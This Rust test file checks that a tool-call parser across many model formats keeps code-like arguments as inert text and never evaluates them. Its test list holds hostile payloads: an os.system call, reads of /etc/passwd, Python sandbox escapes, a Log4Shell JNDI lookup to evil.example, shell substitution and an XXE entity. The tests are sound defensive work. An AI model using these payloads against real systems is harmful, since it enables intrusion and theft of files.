//! Arguments that look like code are data like any other, or the answer stays text: nothing is evaluated.

use mortise_plugin_sdk::formats::Format;
use serde_json::{Value, json};

use crate::answers::{Answer, answer};
use crate::parsing;

/// Texts that an interpreter would run, compute or fail on.
const CODE: &[&str] = &[
    "__import__('os').system('touch /tmp/pwned')",
    "open('/etc/passwd').read()",
    "eval('1+1')",
    "(lambda: 1)()",
    "[x for x in (1, 2)]",
    "f'{1 + 1}'",
    "1 + 1",
    "10 ** 10 ** 10",
    "'a' * 10 ** 9",
    "9",
    "{'a': 1}.__class__.__mro__",
    "().__class__.__bases__[0].__subclasses__()",
    "os.environ",
    "**{'city': 'A'}",
    "city := 1",
    "${jndi:ldap://evil.example/x}",
    "{{ 7 * 7 }}",
    "$(touch /tmp/pwned)",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "&#x41;&lt;/parameter&gt;",
];

/// Whether the code is a literal number, which is read as one.
fn is_number(code: &str) -> bool {
    code.bytes().all(|byte| byte.is_ascii_digit())
}

fn read(format: Format, text: &str) -> Answer {
    let whole = answer(parsing(format, "auto", true, false), std::iter::once(text));
    let pieces = text.split_inclusive(|_| true);
    assert_eq!(answer(parsing(format, "auto", true, false), pieces), whole);
    whole
}

/// A call in each format of Python's calls, with the value behind `city=`.
fn python(value: &str) -> [(Format, String); 3] {
    [
        (Format::Pythonic, format!("[get_weather(city={value})]")),
        (
            Format::Lfm2,
            format!("<|tool_call_start|>[get_weather(city={value})]<|tool_call_end|>"),
        ),
        (
            Format::Olmo3,
            format!("<function_calls>get_weather(city={value})</function_calls>"),
        ),
    ]
}

/// A call in each format of XML's kind, with this argument.
fn tagged(key: &str, value: &str) -> [(Format, String); 4] {
    [
        (
            Format::QwenCoder,
            format!(
                "<tool_call>\n<function=get_weather>\n<parameter={key}>\n{value}\n</parameter>\n\
                 </function>\n</tool_call>"
            ),
        ),
        (
            Format::Glm,
            format!(
                "<tool_call>get_weather\n<arg_key>{key}</arg_key>\n<arg_value>{value}</arg_value>\n\
                 </tool_call>"
            ),
        ),
        (
            Format::MiniMax,
            format!(
                "<minimax:tool_call>\n<invoke name=\"get_weather\">\n\
                 <parameter name=\"{key}\">{value}</parameter>\n</invoke>\n</minimax:tool_call>"
            ),
        ),
        (
            Format::DeepSeekDsml,
            format!(
                "<｜DSML｜function_calls>\n<｜DSML｜invoke name=\"get_weather\">\n\
                 <｜DSML｜parameter name=\"{key}\" string=\"true\">{value}</｜DSML｜parameter>\n\
                 </｜DSML｜invoke>\n</｜DSML｜function_calls>"
            ),
        ),
    ]
}

/// The arguments of the only call.
fn arguments(answer: &Answer) -> Value {
    assert_eq!(answer.calls.len(), 1, "{answer:?}");
    assert!(answer.content.is_empty(), "{answer:?}");
    serde_json::from_str(&answer.calls[0].arguments).expect("arguments are JSON")
}

#[test]
fn d1_code_in_pythonic_calls_stays_text() {
    for code in CODE {
        for (format, text) in python(code) {
            let said = read(format, &text);
            if is_number(code) {
                assert_eq!(arguments(&said), json!({"city": 9}));
            } else {
                assert_eq!(said.content, text, "{}", format.name());
                assert!(said.calls.is_empty(), "{}: {said:?}", format.name());
            }
        }
        // In quotes it is a text.
        for (format, text) in python(&Value::from(*code).to_string()) {
            let found = arguments(&read(format, &text));
            assert_eq!(found, json!({"city": code}), "{}", format.name());
        }
    }
    // In the place of a call, and behind one.
    for code in ["__import__('os').system('x')", "get_weather.__class__()"] {
        let text = format!("[{code}]");
        assert_eq!(read(Format::Pythonic, &text).content, text);
        let said = read(Format::Pythonic, &format!("[time(), {code}]"));
        assert_eq!(said.content, format!(", {code}]"));
        assert_eq!(said.calls.len(), 1);
    }
}

#[test]
fn d1_code_in_tagged_calls_is_a_text() {
    for code in CODE {
        for (format, text) in tagged("city", code) {
            let found = arguments(&read(format, &text));
            assert_eq!(found, json!({"city": code}), "{}", format.name());
        }
        // Where the schema wants something else than text, it is that as JSON, or it stays as it stands.
        for key in ["days", "hourly", "places", "options"] {
            for (format, text) in tagged(key, code).into_iter().take(3) {
                let found = arguments(&read(format, &text));
                let number = key == "days" && is_number(code);
                let meant = if number { json!(9) } else { json!(code) };
                assert_eq!(found[key], meant, "{}: {key}", format.name());
            }
        }
    }
}
